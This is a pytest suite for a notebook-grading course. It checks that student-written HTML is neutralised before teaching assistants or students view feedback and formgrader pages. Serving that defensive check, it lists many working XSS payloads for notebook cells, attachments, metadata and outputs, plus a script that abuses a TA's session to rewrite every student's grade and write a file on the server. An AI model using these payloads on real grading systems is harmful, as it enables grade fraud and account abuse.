"""No student-written HTML reaches a page that a TA or a student opens.

A blank submission of notebook 01 carries XSS payloads everywhere a notebook can hold them
(Markdown and raw cells, attachments, cell and notebook metadata, outputs, cell ids). Each
page is parsed and must hold no script beyond the template's own, no event-handler
attribute, no `javascript:`/`data:` URL outside images, no iframe, object, embed, form, base
or SVG, and every payload's text must still be shown, as text inside <pre>/<code> (where
MathJax does not look). The same checker is first shown to catch the payloads when the
neutraliser is left out. The slow test grades such a submission through `grader.course`;
`tests/browser/test_formgrader_xss.py` opens the pages in Chromium.
"""

from __future__ import annotations

import base64
import copy
import html
import re
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from conftest import ROOT
from traitlets.config import Config
from traitlets.config.loader import PyFileConfigLoader

NOTEBOOK = "01_attention_scores"
RELEASE = ROOT / "notebooks" / NOTEBOOK / f"{NOTEBOOK}.ipynb"
BEACON = "http://127.0.0.1:9/beacon"  # the browser test passes its listener's address


def _templates() -> Path:
    import nbgrader

    return Path(nbgrader.__file__).parent / "server_extensions" / "formgrader" / "templates"


# -- the payloads ---------------------------------------------------------------------------
def _js(name: str, beacon: str) -> str:
    """What each payload does if it runs: retitle the page and call the listener."""
    return f"document.title='PWNED-{name}';(new Image()).src='{beacon}/{name}'"


def markdown_payloads(beacon: str = BEACON) -> dict[str, str]:
    """{name: Markdown cell source}; each holds its name as a marker (XSS-name)."""
    js = {
        name: _js(name, beacon)
        for name in (
            "script",
            "img",
            "svg",
            "iframe",
            "details",
            "body",
            "object",
            "embed",
            "link",
            "a",
            "form",
            "meta",
            "style",
            "math",
            "input",
            "video",
            "fence",
            "html_block",
            "base",
            "mdlink",
            "autolink",
            "entity",
            "template",
            "markdown_img",
            "noscript",
            "cr",
        )
    }
    return {
        "script": f"XSS-script <script>{js['script']}</script>",
        "img": f'XSS-img <img src="x" onerror="{js["img"]}">',
        "svg": f'XSS-svg <svg onload="{js["svg"]}"><circle r="5"/></svg>',
        "iframe": f'XSS-iframe <iframe srcdoc="<script>parent.{js["iframe"]}</script>"></iframe>',
        "details": f'XSS-details <details open ontoggle="{js["details"]}">x</details>',
        "body": f'XSS-body <body onload="{js["body"]}">',
        "object": f'XSS-object <object data="javascript:{js["object"]}"></object>',
        "embed": f'XSS-embed <embed src="data:text/html,<script>{js["embed"]}</script>">',
        "link": f'XSS-link <link rel="stylesheet" href="{beacon}/link-css">',
        "a": f'XSS-a <a href="javascript:{js["a"]}">click</a>',
        "form": f'XSS-form <form action="javascript:{js["form"]}"><button>go</button></form>',
        "meta": f'XSS-meta <meta http-equiv="refresh" content="0;url=javascript:{js["meta"]}">',
        "style": f"XSS-style <style>@import url('{beacon}/style');</style>",
        "math": "XSS-math $$\\href{javascript:" + js["math"] + "}{click}$$",
        "input": f'XSS-input <input autofocus onfocus="{js["input"]}">',
        "video": f'XSS-video <video><source onerror="{js["video"]}"></video>',
        "fence": f"XSS-fence\n````\n</code></pre><script>{js['fence']}</script>\n```\n"
        f'<img src=x onerror="{js["fence"]}">',
        "html_block": f'<div>\nXSS-html_block\n\n<img src=x onerror="{js["html_block"]}">\n</div>',
        "base": f'XSS-base <base href="javascript:{js["base"]}//">',
        "mdlink": f"XSS-mdlink [click](javascript:{js['mdlink']})",
        "autolink": "XSS-autolink <javascript:alert(1)>",
        "entity": f'XSS-entity <a href="&#106;avascript:{js["entity"]}">x</a>',
        "template": f'XSS-template <template><img src=x onerror="{js["template"]}"></template>',
        "markdown_img": "XSS-markdown_img ![x](javascript:alert(1))",
        "noscript": f'XSS-noscript <noscript><p title="</noscript><img src=x onerror='
        f'\\"{js["noscript"]}\\">"></noscript>',
        "cr": f'```\rXSS-cr\r```\r<img src=x onerror="{js["cr"]}">',
    }


def formgrader_attack(beacon: str, write_path: str, thief: str = "mallory") -> str:
    """A <script> that, run in formgrader's page, gives `thief` full marks, everyone else 0,
    and writes a file through the server's contents API (the TA's session does it all)."""
    return f"""XSS-api

<script>
(async () => {{
  const m = document.cookie.match(/_xsrf=([^;]+)/);
  const h = {{'Content-Type': 'application/json',
             'X-XSRFToken': m ? decodeURIComponent(m[1]) : ''}};
  const subs = await (await fetch('/formgrader/api/submitted_notebooks/{NOTEBOOK}/{NOTEBOOK}'
                                  )).json();
  for (const s of subs) {{
    const grades = await (await fetch('/formgrader/api/grades?submission_id=' + s.id)).json();
    for (const g of grades) {{
      await fetch('/formgrader/api/grade/' + g.id, {{method: 'PUT', headers: h,
        body: JSON.stringify({{manual_score: s.student === '{thief}' ? g.max_score : 0}})}});
    }}
  }}
  await fetch('/api/contents/{write_path}', {{method: 'PUT', headers: h,
    body: JSON.stringify({{type: 'file', format: 'text', content: 'pwned'}})}});
  document.title = 'PWNED-api';
  (new Image()).src = '{beacon}/api-done';
}})();
</script>"""


def raw_payloads(beacon: str = BEACON) -> list:
    cells = []
    for name, meta in (
        ("raw_html", {"format": "text/html"}),
        ("raw_mime", {"raw_mimetype": "text/html"}),
        ("raw_plain", {}),
    ):
        cell = nbformat.v4.new_raw_cell(
            f"XSS-{name} <script>{_js(name, beacon)}</script>"
            f'<img src=x onerror="{_js(name, beacon)}">'
        )
        cell.metadata.update(meta)
        cells.append(cell)
    return cells


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def attachment_payloads(beacon: str = BEACON) -> list:
    cell = nbformat.v4.new_markdown_cell(
        "XSS-attachment ![a](attachment:a.svg) ![b](attachment:b.html) [c](attachment:b.html)"
    )
    cell["attachments"] = {
        "a.svg": {
            "image/svg+xml": _b64(
                f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_js("att_svg", beacon)}"/>'
            )
        },
        "b.html": {
            "text/html": _b64(f"<script>{_js('att_html', beacon)}</script>"),
            'image/png" onerror="alert(1)': "AAAA",
        },
    }
    return [cell]


def metadata_payloads(release, beacon: str = BEACON, invalid: bool = True) -> list:
    """Cells whose metadata, id or outputs carry the payload (what the TA path's intake
    already drops, and plain nbgrader keeps). `invalid`: also what breaks nbformat's schema
    (a cell id, execution counts), which nbconvert refuses to render at all."""
    js = _js("meta", beacon)
    instructor = copy.deepcopy(next(c for c in release.cells if c.cell_type == "markdown"))
    instructor["id"] = "copied-instructor-cell"
    instructor.metadata.update(
        {"jupyter": {"source_hidden": True}, "tags": [f'x" onmouseover="{js}']}
    )
    instructor["attachments"] = {"x.png": {"text/html": _b64(f"<script>{js}</script>")}}
    code = nbformat.v4.new_code_cell("print('XSS-code </script><script>alert(1)</script>')")
    code.metadata = {
        "tags": [f'"><img src=x onerror="{js}">'],
        "magics_language": "html",
        "nbgrader": {
            "grade_id": f'"><img src=x onerror="{js}">',
            "grade": True,
            "solution": False,
            "points": 1,
        },
    }
    code.outputs = [
        nbformat.v4.new_output(
            "display_data",
            data={
                "text/html": f"<script>{_js('out_html', beacon)}</script>",
                "application/javascript": _js("out_js", beacon),
                "image/svg+xml": f'<svg onload="{_js("out_svg", beacon)}"/>',
                "text/markdown": f'<img src=x onerror="{_js("out_md", beacon)}">',
                "text/latex": "$\\href{javascript:alert(1)}{x}$",
                "application/vnd.jupyter.widget-view+json": {
                    "model_id": "m",
                    "version_major": 2,
                    "version_minor": 0,
                },
                "image/png": f'x" onerror="{_js("out_png", beacon)}',
                "text/plain": "XSS-output <b>plain</b>",
            },
            metadata={"image/png": {"width": f'1" onerror="{js}'}},
        ),
        nbformat.from_dict(
            {
                "output_type": "execute_result",
                "execution_count": 1,
                "data": {"image/jpeg": "AAAA", "text/plain": "x"},
                "metadata": {"image/jpeg": {"alt": f'"><img onerror="{js}">'}},
            }
        ),
        nbformat.v4.new_output("stream", name="stdout", text="XSS-stream <script>x</script>"),
        nbformat.v4.new_output(
            "error",
            ename="<script>x</script>",
            evalue="XSS-error",
            traceback=["XSS-error <img src=x onerror=alert(1)>"],
        ),
    ]
    if invalid:
        code["id"] = f'"><img src=x onerror="{js}">'
        code.execution_count = f'1"><img src=x onerror="{js}">'
        code.outputs[1]["execution_count"] = f'"><b {js}>'
    return [instructor, code]


NOTEBOOK_METADATA = {
    "title": "</title><script>alert(1)</script>",
    "widgets": {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2,
            "version_minor": 0,
            "state": {
                "m": {
                    "model_name": "HTMLModel",
                    "model_module": "@jupyter-widgets/controls",
                    "model_module_version": "2.0.0",
                    "state": {
                        "value": "<img src=x onerror=alert(1)></script><script>alert(2)</script>"
                    },
                }
            },
        }
    },
    "language_info": {"name": "python", "pygments_lexer": "</script><script>alert(1)//"},
}


def hostile_notebook(
    release,
    beacon: str = BEACON,
    api: str | None = None,
    everything: bool = True,
    invalid: bool = True,
) -> nbformat.NotebookNode:
    """The blank release with payload cells (one after the title, the rest at the end)."""
    nb = copy.deepcopy(release)
    markdown = [nbformat.v4.new_markdown_cell(s) for s in markdown_payloads(beacon).values()]
    if api:
        markdown.insert(0, nbformat.v4.new_markdown_cell(api))
    nb.cells[1:1] = markdown[:1]
    nb.cells.extend(markdown[1:] + raw_payloads(beacon))
    if everything:
        nb.cells.extend(attachment_payloads(beacon) + metadata_payloads(release, beacon, invalid))
        nb.metadata.update(copy.deepcopy(NOTEBOOK_METADATA))
    return nb


TEXT_MARKERS = [
    *(f"XSS-{n}" for n in markdown_payloads()),
    "XSS-raw_html",
    "XSS-raw_mime",
    "XSS-raw_plain",
    "XSS-attachment",
]  # what the student wrote in text cells
MARKERS = [*TEXT_MARKERS, "XSS-code", "XSS-output", "XSS-stream", "XSS-error"]


# -- what a page may hold -------------------------------------------------------------------
FORBIDDEN_TAGS = {
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "form",
    "svg",
    "math",
    "video",
    "audio",
    "source",
    "template",
    "noscript",
    "details",
    "portal",
}
HEAD_TAGS = {"script", "style", "link", "meta", "title", "base"}
URL_ATTRS = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "cite",
    "xlink:href",
    "srcset",
    "ping",
    "manifest",
    "codebase",
    "content",
}
IMAGE_DATA = re.compile(r"data:image/(png|jpeg);base64,[a-z0-9+/=\s]*")


class Page(HTMLParser):
    """Everything of a page that can run code or load something, and its texts."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple]] = []
        self.head: list[tuple[str, tuple, str]] = []  # script, style, link, meta with content
        self.texts: list[tuple[str, bool]] = []  # (text, inside <pre> or <code>)
        self._open: list[list] = []
        self._verbatim = 0
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, tuple(attrs)))
        if tag in ("pre", "code"):
            self._verbatim += 1
        if tag in HEAD_TAGS:
            self.head.append([tag, tuple(attrs), ""])
            if tag in ("script", "style", "title"):
                self._open.append(self.head[-1])

    def handle_endtag(self, tag):
        if tag in ("pre", "code"):
            self._verbatim -= 1
        if self._open and self._open[-1][0] == tag:
            self._open.pop()

    def handle_data(self, data):
        if self._open:
            self._open[-1][2] += data
        self.texts.append((data, self._verbatim > 0))

    def signatures(self) -> set:
        return {(tag, attrs, content.strip()) for tag, attrs, content in self.head}


def _url(value: str) -> str:
    return re.sub(r"[\x00-\x20]", "", html.unescape(value or "")).lower()


def problems(page: str, baseline: str) -> list[str]:
    """What in `page` could run or load something and is not in the template's `baseline`."""
    template = Page(baseline)
    known, elements = template.signatures(), set(template.elements)
    found, parsed = [], Page(page)
    for tag, attrs, content in parsed.head:
        if (tag, attrs, content.strip()) not in known:
            found.append(f"<{tag} {attrs}> {content[:80]!r} is not the template's")
    for tag, attrs in parsed.elements:
        if (tag, attrs) in elements:
            continue  # the template's own (formgrade's buttons have onclick handlers)
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}> element")
        for name, value in attrs:
            name = name.lower()
            url = _url(value)
            if name.startswith("on") or name in ("srcdoc", "formaction"):
                found.append(f"<{tag} {name}=...>")
            elif (
                name in URL_ATTRS
                and re.match(r"(java|vb)script:|data:|livescript:", url)
                and not (tag == "img" and name == "src" and IMAGE_DATA.fullmatch(url))
            ):
                found.append(f"<{tag} {name}={value[:60]!r}>")
            elif name == "style" and re.search(r"url\(|expression|javascript", url):
                found.append(f"<{tag} style={value[:60]!r}>")
            if "pwned" in url:
                found.append(f"a payload in <{tag} {name}=...>")
    return found


def shown_as_text(page: str, markers: list[str]) -> list[str]:
    """The markers that are not shown, or shown outside <pre>/<code>."""
    texts = Page(page).texts
    return [m for m in markers if not any(m in t for t, verbatim in texts if verbatim)]


# -- exporting as nbgrader does -------------------------------------------------------------
def course_config(root: Path = ROOT) -> Config:
    """The configuration plain nbgrader and formgrader load: autograder/nbgrader_config.py."""
    return PyFileConfigLoader("nbgrader_config.py", path=str(root / "autograder")).load_config()


def export(nb, template: str, config: Config | None) -> str:
    """nb as HTML with nbgrader's feedback or formgrade template; config None: nbconvert's
    defaults, i.e. nbgrader without this project's configuration."""
    from nbconvert.exporters import HTMLExporter

    c = copy.deepcopy(config) if config is not None else Config()
    c.HTMLExporter.template_name = template
    c.HTMLExporter.extra_template_basedirs = [str(_templates())]
    c.HTMLExporter.extra_template_paths = [
        str(_templates().parent / "static" / "node_modules" / "bootstrap" / "dist" / "css")
    ]
    exporter = HTMLExporter(config=c)  # formgrader's: HTMLExporter.* of the configuration
    if config is not None and template == "feedback":  # and GenerateFeedback's, but GetGrades
        for preprocessor in config.GenerateFeedback.preprocessors[1:]:
            exporter.register_preprocessor(preprocessor(config=c), enabled=True)
    resources = {
        "nbgrader": {
            "notebook": NOTEBOOK,
            "assignment": NOTEBOOK,
            "student": "mallory",
            "score": 0,
            "max_score": 14,
            "late_penalty": 0,
        },
        "assignment_id": NOTEBOOK,
        "notebook_id": NOTEBOOK,
        "submission_id": "s",
        "index": 0,
        "total": 1,
        "base_url": "",
        "student": "mallory",
        "last_name": "",
        "first_name": "",
        "notebook_path": "x",
    }
    text, _ = exporter.from_notebook_node(_graded(nb), resources=resources)
    return text


def _graded(nb):
    """A copy of nb with what nbgrader's GetGrades adds for the feedback template."""
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        grader = cell.get("metadata", {}).get("nbgrader")
        if isinstance(grader, dict) and grader.get("grade"):
            grader["score"] = 0.0
    return nb


@pytest.fixture(scope="module")
def release():
    return nbformat.read(RELEASE, 4)


@pytest.fixture(scope="module")
def hostile(release):
    return hostile_notebook(release)


@pytest.fixture(scope="module")
def config():
    return course_config()


def neutralised(nb, config, resources=None):
    """nb as autograde stores it: after NeutraliseStudentHTML, its last preprocessor."""
    from grader.feedback import NeutraliseStudentHTML

    resources = resources or {"nbgrader": {"assignment": NOTEBOOK, "notebook": NOTEBOOK}}
    return NeutraliseStudentHTML(config=config).preprocess(copy.deepcopy(nb), resources)[0]


TEMPLATES = ["feedback", "formgrade"]


@pytest.mark.parametrize("template", TEMPLATES)
def test_the_checker_sees_every_kind_of_payload_without_the_neutraliser(release, template):
    baseline = export(release, template, None)
    assert problems(baseline, baseline) == []
    hostile = hostile_notebook(release, invalid=False)  # nbconvert refuses the invalid ones
    found = "\n".join(problems(export(hostile, template, None), baseline))
    for expected in (
        "<script",
        "onerror",
        "<iframe>",
        "javascript:",
        "<svg>",
        "ontoggle",
        "<object>",
        "<embed>",
        "<form>",
        "<base>",
        "<link",
        "<meta",
    ):
        assert expected in found, f"{template}: the checker missed {expected}:\n{found}"


@pytest.mark.parametrize("template", TEMPLATES)
def test_an_autograded_notebook_renders_no_payload(release, hostile, config, template):
    baseline = export(release, template, config)
    page = export(neutralised(hostile, config), template, config)
    assert problems(page, baseline) == []
    assert shown_as_text(page, MARKERS) == []


@pytest.mark.parametrize("template", TEMPLATES)
def test_pages_neutralise_a_notebook_graded_without_it(release, config, template):
    """formgrader and feedback on a notebook autograded before or by other means."""
    hostile = hostile_notebook(release, invalid=False)
    page = export(hostile, template, config)
    assert problems(page, export(release, template, config)) == []
    assert shown_as_text(page, MARKERS) == []


def test_the_neutralised_notebook_is_valid(hostile, config):
    nbformat.validate(neutralised(hostile, config))


def test_instructor_markdown_stays_as_written(release, hostile, config):
    nb = neutralised(hostile, config)
    kept = [c.source for c in nb.cells if c.cell_type == "markdown"]
    for cell in release.cells:
        if cell.cell_type == "markdown":
            assert cell.source in kept, cell.source[:80]
    copied = next(
        c
        for c in nb.cells
        if c.cell_type == "markdown"
        and c.source == next(r.source for r in release.cells if r.cell_type == "markdown")
        and "tags" in c.metadata
    )
    assert "attachments" not in copied and "jupyter" not in copied.metadata
    assert copied.metadata["tags"] == []


def test_neutralising_twice_is_neutralising_once(hostile, config):
    resources = {"assignment_id": NOTEBOOK, "notebook_id": NOTEBOOK}  # as formgrader has them
    once = neutralised(hostile, config, resources)
    assert nbformat.writes(neutralised(once, config, resources)) == nbformat.writes(once)


def test_without_the_instructors_notebook_every_markdown_cell_is_text(release):
    from grader.feedback import NeutraliseStudentHTML, is_shown_as_text

    nb, _ = NeutraliseStudentHTML().preprocess(copy.deepcopy(release), {})
    texts = [c for c in nb.cells if c.cell_type != "code"]
    assert texts and all(is_shown_as_text(c.source) for c in texts)


@pytest.mark.parametrize(
    "text", ["plain", "```", "a\n```\nb", "````\n", "x`````y", "\r```\r", "```\n<script>\n```"]
)
def test_text_cannot_close_its_fence(text):
    from grader.feedback import as_text, is_shown_as_text
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    source = as_text(text)
    assert is_shown_as_text(source)
    rendered = markdown2html_mistune(source)
    assert rendered.count("<pre>") == 1 and rendered.strip().endswith("</code></pre>")
    assert not is_shown_as_text(text + "\n<script>")


# -- through the TA command -----------------------------------------------------------------
@pytest.mark.slow
def test_a_graded_hostile_submission_gives_safe_pages(tmp_path, release):
    from grader.course import Course, grade_class, gradebook_rows
    from grader.sample import load_builder
    from grader.sandbox import sandbox_available

    if not sandbox_available()[0]:
        pytest.skip(f"no sandbox: {sandbox_available()[1]}")
    build = load_builder()
    submissions = {
        "bob": {f"{NOTEBOOK}.ipynb": nbformat.writes(release).encode()},
        "mallory": {f"{NOTEBOOK}.ipynb": nbformat.writes(hostile_notebook(release)).encode()},
    }
    course = Course(root=ROOT, work=tmp_path / "work", cell_timeout=30, quiet=True)
    outcomes = grade_class(course, build.write_folder(tmp_path / "in", submissions), [NOTEBOOK])
    assert all(o["ok"] for o in outcomes), outcomes
    scores = {r["student_id"]: r["score"] for r in gradebook_rows(course)}
    assert scores == {"bob": 0.0, "mallory": 0.0}
    page = {
        s: (course.work / "feedback" / s / NOTEBOOK / f"{NOTEBOOK}.html").read_text()
        for s in scores
    }
    assert problems(page["mallory"], page["bob"]) == []
    assert shown_as_text(page["mallory"], TEXT_MARKERS) == []
    # the stored notebook is safe on its own: even nbconvert's unconfigured export of it
    graded = nbformat.read(
        course.work / "autograded" / "mallory" / NOTEBOOK / f"{NOTEBOOK}.ipynb", 4
    )
    assert problems(export(graded, "formgrade", None), export(release, "formgrade", None)) == []


@pytest.mark.parametrize("minor", [4, 5])
def test_cell_ids_follow_the_notebooks_version(release, config, minor):
    nb = copy.deepcopy(release)
    nb.nbformat_minor = minor
    for cell in nb.cells:
        cell.pop("id", None)
    out = neutralised(nb, config)
    assert all(("id" in cell) == (minor == 5) for cell in out.cells)
    nbformat.validate(out)
